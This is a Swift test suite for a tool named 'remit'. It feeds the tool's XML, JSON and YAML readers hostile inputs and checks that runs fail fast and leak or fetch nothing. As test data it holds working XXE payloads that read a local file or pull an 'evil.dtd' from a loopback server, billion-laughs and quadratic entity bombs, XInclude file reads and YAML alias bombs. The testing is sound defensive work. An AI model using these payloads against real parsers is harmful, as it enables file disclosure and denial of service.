import Foundation
import Testing

/// Hostile inputs through the real binary (`remit run`): a bad XML or YAML input stops the
/// run with exit 3 (2 for the job) and a message naming file and line, fast and in bounded
/// memory; the previous outputs stay as they were; no local file leaks into any output or
/// message; nothing is fetched (a loopback HTTP server's request log stays empty).
@Suite struct HostileRunTests {
    static let job = """
        version: 1
        register: register.yml
        catalog:
          - source: catalog.json
          - source: catalog.xml
        flows:
          - source: flows.ndjson
          - source: flows.xml
        mappings: mappings.yml
        exceptions: exceptions.yml
        output: out
        """
    static let register = """
        customers:
          - id: cust-acme
            instructions: [{ id: dpa, kind: dpa, ref: "DPA v1" }]
            subprocessors:
              - { id: sp-mailer, instruction: dpa, purposes: [service], data_categories: [user] }
        """
    static let catalogJSON = #"{"subprocessors": [{"id": "sp-mailer", "endpoints": ["api.mailer.example"]}]}"#
    static let catalogXML = "<subprocessors><subprocessor id=\"sp-other\"><endpoint>api.other.example</endpoint></subprocessor></subprocessors>\n"
    static let flowsNDJSON = #"{"id": "n-1", "customer": "cust-acme", "destination": "api.mailer.example", "purpose": "service"}"# + "\n"
    static let flowsXML = "<flows><flow id=\"x-1\" customer=\"cust-acme\" destination=\"api.other.example\"/></flows>\n"
    static let mappings = "systems: {}\n"
    static let exceptions = "exceptions: []\n"

    /// A job folder with a first, good run already made (its outputs are the baseline).
    struct Prepared {
        let folder: JobFolder
        let secret: String
        let secretPath: String
        let baseline: [String: Data]
    }

    func prepare() throws -> Prepared {
        let folder = try JobFolder()
        try folder.write("remit.yml", Self.job)
        try folder.write("register.yml", Self.register)
        try folder.write("catalog.json", Self.catalogJSON)
        try folder.write("catalog.xml", Self.catalogXML)
        try folder.write("flows.ndjson", Self.flowsNDJSON)
        try folder.write("flows.xml", Self.flowsXML)
        try folder.write("mappings.yml", Self.mappings)
        try folder.write("exceptions.yml", Self.exceptions)
        let secret = "remit-canary-" + UUID().uuidString
        try folder.write("secret.txt", secret + "\n")
        let first = try folder.runJob()
        try #require(first.exitCode <= 1, "the good run failed: \(first.stderr)")
        return Prepared(folder: folder, secret: secret, secretPath: folder.path("secret.txt"),
                        baseline: snapshot(folder.url.appendingPathComponent("out")))
    }

    /// No file under the job folder but the secret itself, and neither output stream, holds the secret.
    func expectNoLeak(_ prepared: Prepared, _ run: MeasuredRun, _ what: String) {
        #expect(!run.stderr.contains(prepared.secret) && !run.stdout.contains(prepared.secret), "\(what)")
        for (path, data) in snapshot(prepared.folder.url) where path != "secret.txt" {
            #expect(data.range(of: Data(prepared.secret.utf8)) == nil, "\(what): the secret is in \(path)")
        }
    }

    func run(_ prepared: Prepared) throws -> MeasuredRun {
        try MeasuredRun.remit(["run", "--config", prepared.folder.path("remit.yml"), "--as-of", "2026-11-28T00:00:00Z"])
    }

    // MARK: XML

    struct XMLAttack: Sendable, CustomTestStringConvertible {
        var name: String
        var line: Int
        var document: @Sendable (_ root: String, _ record: String, _ secret: String, _ server: String) -> [UInt8]
        var testDescription: String { name }
    }

    static let declaration = "<?xml version=\"1.0\"?>\n"
    static let laughs = "<!ENTITY lol \"lol\">" + (1...9).map { i in
        "<!ENTITY lol\(i) \"" + String(repeating: i == 1 ? "&lol;" : "&lol\(i - 1);", count: 10) + "\">"
    }.joined()

    static func text(_ name: String, line: Int, _ body: @escaping @Sendable (String, String, String, String) -> String) -> XMLAttack {
        XMLAttack(name: name, line: line) { Array(body($0, $1, $2, $3).utf8) }
    }

    static let xmlAttacks: [XMLAttack] = [
        text("external entity to a local file", line: 2) { root, record, secret, _ in
            declaration + "<!DOCTYPE \(root) [<!ENTITY x SYSTEM \"file://\(secret)\">]>\n<\(root)><\(record) id=\"&x;\" destination=\"h\">&x;</\(record)></\(root)>\n"
        },
        text("external entity over http", line: 2) { root, _, _, server in
            declaration + "<!DOCTYPE \(root) [<!ENTITY x SYSTEM \"\(server)/entity\">]>\n<\(root)>&x;</\(root)>\n"
        },
        text("external DTD", line: 2) { root, _, _, server in
            declaration + "<!DOCTYPE \(root) SYSTEM \"\(server)/remit.dtd\">\n<\(root)/>\n"
        },
        text("parameter entities, out-of-band", line: 2) { root, _, secret, server in
            declaration + "<!DOCTYPE \(root) [<!ENTITY % file SYSTEM \"file://\(secret)\"><!ENTITY % dtd SYSTEM \"\(server)/evil.dtd\"> %dtd; %send;]>\n<\(root)/>\n"
        },
        text("billion laughs", line: 2) { root, record, _, _ in
            declaration + "<!DOCTYPE \(root) [\(laughs)]>\n<\(root)><\(record) id=\"&lol9;\" destination=\"h\">&lol9;</\(record)></\(root)>\n"
        },
        text("quadratic blowup", line: 2) { root, _, _, _ in
            declaration + "<!DOCTYPE \(root) [<!ENTITY a \"\(String(repeating: "a", count: 50_000))\">]>\n<\(root)>" + String(repeating: "&a;", count: 50_000) + "</\(root)>\n"
        },
        text("DOCTYPE hidden in UTF-7", line: 1) { root, _, secret, _ in
            "<?xml version=\"1.0\" encoding=\"UTF-7\"?>\n+ADw-!DOCTYPE \(root) +AFs-+ADw-!ENTITY x SYSTEM +ACI-file://\(secret)+ACI-+AD4-+AF0-+AD4-\n+ADw-\(root)+AD4-+ACY-x+ADs-+ADw-/\(root)+AD4-\n"
        },
        XMLAttack(name: "DOCTYPE in UTF-16", line: 1) { root, _, secret, _ in
            let text = "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n<!DOCTYPE \(root) [<!ENTITY x SYSTEM \"file://\(secret)\">]>\n<\(root)>&x;</\(root)>\n"
            return [0xFF, 0xFE] + text.utf16.flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] }
        },
        text("100,000-deep nesting", line: 2) { root, _, _, _ in
            declaration + "<\(root)>" + String(repeating: "<a>", count: 100_000) + String(repeating: "</a>", count: 100_000) + "</\(root)>\n"
        },
        text("12 MB text node", line: 2) { root, record, _, _ in
            declaration + "<\(root)><\(record) id=\"a\" destination=\"h\"><category>" + String(repeating: "x", count: 12 << 20) + "</category></\(record)></\(root)>\n"
        },
        text("12 MB attribute", line: 2) { root, record, _, _ in
            declaration + "<\(root)><\(record) id=\"" + String(repeating: "x", count: 12 << 20) + "\" destination=\"h\"/></\(root)>\n"
        },
        XMLAttack(name: "invalid UTF-8", line: 2) { root, record, _, _ in
            Array((declaration + "<\(root)><\(record) id=\"").utf8) + [0xC0, 0xAF] + Array("\" destination=\"h\"/></\(root)>\n".utf8)
        },
        XMLAttack(name: "NUL byte", line: 2) { root, record, _, _ in
            Array((declaration + "<\(root)><\(record) id=\"a").utf8) + [0x00] + Array("\" destination=\"h\"/></\(root)>\n".utf8)
        },
        text("truncated document", line: 3) { root, record, _, _ in
            declaration + "<\(root)>\n<\(record) id=\"a\" destination=\"h\""
        },
        text("two roots", line: 3) { root, _, _, _ in
            declaration + "<\(root)/>\n<\(root)/>\n"
        },
    ]

    @Test(arguments: ["flows.xml", "catalog.xml"])
    func xmlAttacksStopTheRunWithFileAndLineAndLeakNothing(_ file: String) throws {
        let prepared = try prepare()
        let server = try LoopbackServer()
        let (root, record) = file == "flows.xml" ? ("flows", "flow") : ("subprocessors", "subprocessor")
        let good = try prepared.folder.read(file)
        for attack in Self.xmlAttacks {
            try prepared.folder.write(file, bytes: attack.document(root, record, prepared.secretPath, server.url("")))
            let result = try run(prepared)
            #expect(result.exitCode == 3, "\(attack.name): \(result.stderr)")
            #expect(result.stderr.contains("error: \(file):\(attack.line)"), "\(attack.name): \(result.stderr)")
            #expect(result.cpuSeconds < Bound.cpu(3), "\(attack.name) took \(result.cpuSeconds) s of CPU")
            #expect(result.peakMiB < Bound.memory(150), "\(attack.name) peaked at \(result.peakMiB) MiB")
            #expect(snapshot(prepared.folder.url.appendingPathComponent("out")) == prepared.baseline, "\(attack.name) changed the outputs")
            expectNoLeak(prepared, result, attack.name)
            #expect(try server.requestedPaths().isEmpty, "\(attack.name) fetched something")
        }
        try prepared.folder.write(file, bytes: Array(good))
        #expect(try run(prepared).exitCode <= 1)
    }

    @Test func xincludeFetchesNothingAndLeaksNothing() throws {
        let prepared = try prepare()
        let server = try LoopbackServer()
        let include = "<xi:include href=\"file://\(prepared.secretPath)\" parse=\"text\"/><xi:include href=\"\(server.url("/x.xml"))\"/>"
        try prepared.folder.write("flows.xml", """
            <flows xmlns:xi="http://www.w3.org/2001/XInclude">\(include)
              <flow id="x-1" customer="cust-acme" destination="api.other.example">\(include)<category>\(include)user</category></flow>
            </flows>
            """)
        let result = try run(prepared)
        #expect(result.exitCode <= 1, "\(result.stderr)")
        expectNoLeak(prepared, result, "XInclude")
        #expect(try server.requestedPaths().isEmpty)
    }

    // MARK: JSON

    /// Writes `count` bytes of `x` inside a JSON string, in 1 MiB pieces.
    func writeLongLine(to path: String, before: String, count: Int, after: String) throws {
        _ = FileManager.default.createFile(atPath: path, contents: nil)
        let handle = try FileHandle(forWritingTo: URL(fileURLWithPath: path))
        defer { try? handle.close() }
        try handle.write(contentsOf: Data(before.utf8))
        let piece = Data(repeating: UInt8(ascii: "x"), count: 1 << 20)
        for _ in 0..<(count >> 20) { try handle.write(contentsOf: piece) }
        try handle.write(contentsOf: Data(after.utf8))
    }

    @Test func aThreeHundredMegabyteLineIsOneInvalidRecordInBoundedMemory() throws {
        let prepared = try prepare()
        let good = #"{"id": "n-2", "customer": "cust-acme", "destination": "api.mailer.example", "purpose": "service"}"#
        try writeLongLine(to: prepared.folder.path("flows.ndjson"), before: Self.flowsNDJSON + #"{"id": "huge", "customer": ""#,
                          count: 300 << 20, after: "\"}\n" + good + "\n")
        let result = try run(prepared)
        #expect(result.exitCode <= 1, "\(result.stderr)")
        #expect(result.peakMiB < Bound.memory(200), "peak \(result.peakMiB) MiB for a 300 MiB line")
        let invalid = try prepared.folder.findings().finding("INVALID_RECORD", value: "flows.ndjson")
        #expect(invalid?["flows"] as? Int == 1)
        #expect(result.stderr.contains("1 rejected"), "\(result.stderr)")
    }

    /// A flow file that puts a new value in a field on every record (request ids in `system`,
    /// say): one pair sees 100,000 distinct values, and looking each one up among the others
    /// must not make the run quadratic (it was: a scan of the pair's list per record).
    @Test func oneHundredThousandDistinctValuesOfOnePairTakeLinearTime() throws {
        let prepared = try prepare()
        var lines = ""
        let values = Bound.size(100_000, sanitized: 20_000)
        for i in 0..<values {
            lines += #"{"id": "v-\#(i)", "customer": "cust-acme", "destination": "api.mailer.example", "purpose": "service", "system": "req-\#(i)"}"# + "\n"
        }
        try prepared.folder.write("flows.ndjson", lines)
        let result = try run(prepared)
        #expect(result.exitCode <= 1, "\(result.stderr)")
        #expect(result.cpuSeconds < Bound.cpu(10), "100,000 distinct systems took \(result.cpuSeconds) s of CPU")
        let packet = try JSONSerialization.jsonObject(with: Data(contentsOf: prepared.folder.url.appendingPathComponent("out/evidence/cust-acme.json"))) as? [String: Any]
        let observed = (packet?["observed"] as? [[String: Any]])?.first { $0["subprocessor"] as? String == "sp-mailer" }
        #expect((observed?["systems"] as? [String])?.count == values)
    }

    /// Names of another vocabulary are `{uri}local` copies: `x:a="1"`, eight bytes of input,
    /// is a kilobyte of name with a long namespace. 8,192 records of 100 such attributes were
    /// 800 MB of names, held a batch of 4,096 records at a time; a batch is now bounded by bytes.
    @Test func foreignNamesDoNotMultiplyMemory() throws {
        let prepared = try prepare()
        let attributes = (0..<100).map { "x:a\($0)=\"1\"" }.joined(separator: " ")
        var xml = "<flows xmlns:x=\"urn:" + String(repeating: "n", count: 1000) + "\">\n"
        for i in 0..<8_192 { xml += "<flow id=\"x-\(i)\" customer=\"cust-acme\" destination=\"api.other.example\" \(attributes)/>\n" }
        try prepared.folder.write("flows.xml", xml + "</flows>\n")
        let result = try run(prepared)
        #expect(result.exitCode <= 1, "\(result.stderr)")
        #expect(result.peakMiB < Bound.memory(150), "peak \(result.peakMiB) MiB for 8 MB of flows")
        let inputs = try prepared.folder.findings()["inputs"] as? [[String: Any]] ?? []
        #expect(inputs.contains { $0["source"] as? String == "flows.xml" && $0["records"] as? Int == 8_192 }, "\(inputs)")
    }

    /// The reader of catalogs (and of `remit check`) holds the events of 4 kB of input at a
    /// time, each element named `{uri}local`: a 12 MB catalog of elements of a kilobyte-long
    /// namespace, four bytes each, peaked at 85 MiB when it held the events of 64 kB.
    @Test func foreignElementsInACatalogDoNotMultiplyMemory() throws {
        let prepared = try prepare()
        let meta = "<x:meta xmlns:x=\"urn:" + String(repeating: "n", count: 1000) + "\">"
            + String(repeating: "<x:b/><x:c/>", count: Bound.size(1_000_000, sanitized: 100_000)) + "</x:meta>"
        try prepared.folder.write("catalog.xml", Self.catalogXML.replacingOccurrences(of: "</subprocessors>", with: meta + "</subprocessors>"))
        let result = try run(prepared)
        #expect(result.exitCode <= 1, "\(result.stderr)")
        #expect(result.peakMiB < Bound.memory(60), "peak \(result.peakMiB) MiB for a 12 MB catalog")
    }

    @Test func aHundredMegabyteElementOfAJSONListIsOneInvalidRecordInBoundedMemory() throws {
        let prepared = try prepare()
        try prepared.folder.write("remit.yml", Self.job.replacingOccurrences(of: "flows.ndjson", with: "flows.json"))
        try writeLongLine(to: prepared.folder.path("flows.json"),
                          before: "[" + Self.flowsNDJSON + #", {"id": "huge", "customer": ""#,
                          count: Bound.size(100 << 20, sanitized: 20 << 20), after: "\"}]\n")   // past the 16 MiB limit
        let result = try run(prepared)
        #expect(result.exitCode <= 1, "\(result.stderr)")
        #expect(result.peakMiB < Bound.memory(150), "peak \(result.peakMiB) MiB for a 100 MiB record")
        #expect(try prepared.folder.findings().finding("INVALID_RECORD", value: "flows.json")?["flows"] as? Int == 1)
    }

    // MARK: YAML

    static func yamlLaughs(_ key: String) -> String {
        var yaml = "l0: &l0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n"
        for i in 1...9 { yaml += "l\(i): &l\(i) [" + Array(repeating: "*l\(i - 1)", count: 9).joined(separator: ", ") + "]\n" }
        return yaml + key
    }

    @Test(arguments: [("remit.yml", Int32(2)), ("register.yml", 3), ("mappings.yml", 3), ("exceptions.yml", 3)])
    func yamlBombsStopTheRunFast(_ file: String, _ exitCode: Int32) throws {
        let prepared = try prepare()
        let original = try prepared.folder.read(file)
        let key = ["remit.yml": "register", "register.yml": "customers", "mappings.yml": "systems", "exceptions.yml": "exceptions"][file]!
        // (The bomb's error points into the first anchored list, where the budget ran out.)
        let bombs = [
            ("alias bomb", Self.yamlLaughs("\(key): *l9\n"), 1),
            ("alias bomb as a key", Self.yamlLaughs("\(key):\n  *l9 : x\n"), 12),
            ("100,000 nested lists", "\(key): " + String(repeating: "[", count: 100_000) + String(repeating: "]", count: 100_000) + "\n", 1),
        ]
        for (name, yaml, line) in bombs {
            try prepared.folder.write(file, yaml)
            let result = try run(prepared)
            #expect(result.exitCode == exitCode, "\(file), \(name): \(result.stderr)")
            #expect(result.stderr.contains("\(file):\(line):"), "\(file), \(name): \(result.stderr)")
            #expect(result.cpuSeconds < Bound.cpu(8), "\(file), \(name) took \(result.cpuSeconds) s of CPU")
            #expect(result.peakMiB < Bound.memory(400), "\(file), \(name) peaked at \(result.peakMiB) MiB")
            #expect(snapshot(prepared.folder.url.appendingPathComponent("out")) == prepared.baseline, "\(file), \(name) changed the outputs")
        }
        try prepared.folder.write(file, bytes: Array(original))
    }
}
